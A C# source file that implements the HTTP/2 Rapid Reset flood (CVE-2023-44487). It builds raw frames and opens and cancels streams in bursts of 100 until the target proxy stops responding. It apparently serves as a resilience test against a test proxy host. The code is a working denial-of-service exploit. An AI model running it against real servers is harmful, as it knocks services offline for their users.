using System.Buffers.Binary;
using System.Net.Security;
using System.Text;

namespace Floods;

/// <summary>CVE-2023-44487: opens streams and resets them at once, a hundred at a time, until the proxy has enough of it.</summary>
internal static class RapidReset
{
    private const int Burst = 100;

    private static readonly TimeSpan Pause = TimeSpan.FromMilliseconds(20);

    public static Task RunAsync(Uri proxy, Trust trust, string key, Counters counters, Action began) =>
        Slow.OpenAsync(proxy, trust, SslApplicationProtocol.Http2, counters, async stream =>
        {
            await stream.WriteAsync("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8.ToArray());
            await stream.WriteAsync(Frame(type: 4, flags: 0, 0, []));
            byte[] headers =
            [
                .. Field(":method", "GET"), .. Field(":scheme", "https"), .. Field(":authority", "proxy.test"), .. Field(":path", "/bench/v1"),
                .. Field("aiaccess-token", key),
            ];
            began();
            var answers = stream.CopyToAsync(Stream.Null);
            for (var next = 1; !answers.IsCompleted && next < int.MaxValue - 2 * Burst;)
            {
                var burst = new List<byte>();
                for (var i = 0; i < Burst; i++, next += 2)
                {
                    burst.AddRange(Frame(type: 1, flags: 5, next, headers));
                    burst.AddRange(Frame(type: 3, flags: 0, next, [0, 0, 0, 8]));
                }

                await stream.WriteAsync(burst.ToArray());
                counters.Sent(Burst);
                await Task.Delay(Pause, TimeProvider.System);
            }
        });

    private static byte[] Frame(byte type, byte flags, int stream, byte[] payload)
    {
        var frame = new byte[9 + payload.Length];
        (frame[1], frame[2], frame[3], frame[4]) = ((byte)(payload.Length >> 8), (byte)payload.Length, type, flags);
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
        payload.CopyTo(frame, 9);
        return frame;
    }

    private static byte[] Field(string name, string value) =>
        [0, (byte)name.Length, .. Encoding.ASCII.GetBytes(name), (byte)value.Length, .. Encoding.ASCII.GetBytes(value)];
}
